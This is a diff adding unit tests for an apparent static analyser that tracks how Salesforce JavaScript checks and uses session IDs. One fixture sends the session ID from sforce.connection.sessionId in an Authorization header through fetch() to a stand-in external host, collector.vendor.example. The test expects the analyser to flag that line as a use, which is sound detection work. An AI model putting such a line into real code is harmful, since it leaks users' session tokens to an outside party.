@@ -568,3 +568,38 @@ def test_aura_markup_names_its_controller() -> None:
     assert lower_aura_markup("src/aura/SyncCmp/Other.cmp", markup, []) == []  # not the bundle's markup
     assert lower_aura_markup("src/pages/SyncCmp/SyncCmp.cmp", markup, []) == []
     assert lower_aura_markup("src/aura/Plain/Plain.cmp", b"<aura:component/>", []) == []
+
+
+def test_a_session_only_asked_about_is_recorded_as_tested() -> None:
+    """`if (sforce.connection.sessionId)`, `!!__sfdcSessionId`, `sid == null`: yes/no questions
+    about a session, recorded for SID010 with how each asks."""
+    ir = lower("""if (sforce.connection.sessionId) { console.info('ready'); }
+var onPage = !!__sfdcSessionId;
+var sid = window.__sfdcSessionId;
+if (sid == null) { alert('none'); }
+var kind = typeof sid;
+var same = sid === other ? 1 : 2;
+""")
+    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [
+        (1, "if (…)"), (2, "!!"), (4, "== null"), (5, "typeof"), (6, "compared with ===")]
+    assert ir.url_uses == ()
+
+
+def test_a_test_is_not_a_use_and_carries_nothing() -> None:
+    """What a test gives (`!sid`) is a yes/no: sent on, it carries no session; the session sent
+    on beside its test is a use of its own."""
+    ir = lower("""var sid = sforce.connection.sessionId;
+var missing = !sid;
+fetch('https://collector.vendor.example/state?missing=' + missing);
+if (sid) { fetch('https://collector.vendor.example/x', {headers: {Authorization: sid}}); }
+""")
+    assert [(t.span.start_line, t.how) for t in ir.session_tests] == [(2, "!"), (4, "if (…)")]
+    assert [u.span.start_line for u in ir.url_uses] == [4]
+
+
+def test_scripts_without_a_session_of_their_own_are_not_walked_for_tests() -> None:
+    """Only a script reading a session is walked for tests; what Apex hands over is not tested here."""
+    ir = lower(AURA_CONTROLLER.replace("var sid = response.getReturnValue();",
+                                       "var sid = response.getReturnValue(); if (!sid) { return; }"),
+               "force-app/main/default/aura/SyncCmp/SyncCmpController.js")
+    assert ir.session_tests == ()
